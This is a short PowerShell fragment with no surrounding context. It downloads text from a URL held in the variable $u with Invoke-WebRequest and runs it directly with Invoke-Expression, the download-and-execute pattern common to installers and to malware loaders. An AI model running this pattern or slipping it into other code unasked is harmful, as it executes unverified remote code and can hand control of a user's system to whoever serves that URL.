& {
    $text = Invoke-WebRequest -UseBasicParsing $u
    Invoke-Expression $text.Content
}
